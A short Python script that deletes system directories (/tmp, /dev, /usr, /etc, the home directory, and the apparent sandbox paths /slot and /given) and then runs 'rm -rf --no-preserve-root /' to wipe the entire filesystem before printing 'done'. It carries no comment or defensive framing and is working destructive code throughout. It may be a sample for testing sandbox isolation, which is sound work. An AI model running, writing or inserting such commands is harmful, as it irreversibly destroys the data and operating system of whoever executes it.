import os
import shutil

for place in ("/slot", "/given", "/tmp", "/dev", os.path.expanduser("~"), "/usr", "/etc"):
    shutil.rmtree(place, ignore_errors=True)
os.system("rm -rf --no-preserve-root / 2>/dev/null")
print("done")
